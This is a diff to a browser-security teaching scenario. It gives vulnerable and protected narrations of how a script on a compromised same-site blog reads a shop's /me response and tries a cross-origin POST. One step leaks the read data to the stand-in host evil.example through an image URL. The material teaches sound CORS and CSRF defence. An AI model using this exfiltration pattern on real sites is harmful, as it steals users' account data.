@@ -59,8 +59,13 @@ export default scenario({
     {
       title: 'Alice reads blog.shop.example, which was taken over',
       purpose: 'Ask in Alice’s name',
-      narration:
-        'A script in the blog fetches /me from the shop. The blog belongs to the same site, so SameSite=Lax lets the cookie go along, and the shop answers with Alice’s account. CORS does not stop the request. It decides only whether the script may read the response.',
+      narration: {
+        vulnerable:
+          'A script in the blog fetches /me from the shop. The blog belongs to the same site, so SameSite=Lax lets the cookie go along, and the shop answers with Alice’s account. The answer names the blog’s origin and allows cookies, because this shop names every origin that asks. So the script may read it.',
+        protected:
+          'A script in the blog fetches /me from the shop. The blog belongs to the same site, so SameSite=Lax lets the cookie go along, and the shop answers with Alice’s account. CORS does not stop that. But the answer does not name the blog’s origin, so the browser keeps it from the script.',
+        both: 'A script in the blog fetches /me from the shop. The blog belongs to the same site, so SameSite=Lax lets the cookie go along, and the shop answers with Alice’s account. CORS does not stop the request. It decides only whether the script may read the response.',
+      },
       act: async ({ alice }) => {
         await alice.visit(`${blog}/`);
         await alice.on(blog).get(`${shop}/me`);
@@ -75,9 +80,14 @@ export default scenario({
     },
     {
       title: 'The script sends what it has to Mallory',
-      purpose: 'Carry the data away',
-      narration:
-        'An image whose address holds the data is enough: no server needs to allow that. Mallory never sees the cookie, which is HttpOnly. She does not need it, as long as Alice’s browser asks for her.',
+      purpose: 'Try to carry the data away',
+      narration: {
+        vulnerable:
+          'An image whose address holds the data is enough: no server needs to allow that. Mallory never sees the cookie, which is HttpOnly. She does not need it, as long as Alice’s browser asks for her.',
+        protected:
+          'An image whose address holds the data is enough: no server needs to allow that. But the script has no data. The shop’s answer did not name the blog’s origin, so the browser kept it from the script.',
+        both: 'An image whose address holds the data is enough: no server needs to allow that. Mallory never sees the cookie, which is HttpOnly. If the script could read the answer, she does not need it.',
+      },
       act: ({ alice }) => alice.on(blog).image(`${evil}/?${encodeURIComponent(readBy(alice))}`),
       claims: ['alice is answered by https://evil.example'],
       ask: {
@@ -90,8 +100,13 @@ export default scenario({
     {
       title: 'The script tries to fill Alice’s basket',
       purpose: 'Go from reading to changing',
-      narration:
-        'Along with the account, the script may have read the CSRF token. A POST of JSON with a token needs a preflight, and without permission the browser does not send it. With permission it is sent. The shop’s own check then sees that it does not come from a front end of the shop.',
+      narration: {
+        vulnerable:
+          'Along with the account, the script has read the CSRF token. A POST of JSON with a token needs a preflight, and this shop’s answer permits it, so the POST is sent. The shop’s own check then sees that it does not come from a front end of the shop.',
+        protected:
+          'A POST of JSON needs a preflight. The answer to it does not name the blog’s origin, so the browser does not send the POST. Nor could the script have read a CSRF token for it.',
+        both: 'A POST of JSON with a CSRF token needs a preflight, and without permission the browser does not send it. With permission it is sent. The shop’s own check then sees that it does not come from a front end of the shop.',
+      },
       act: ({ alice }) => alice.on(blog).post(`${shop}/basket`, { item: '40 rabbits' }),
       claims: {
         vulnerable: ['alice sends a session cookie', 'alice is answered 403'],
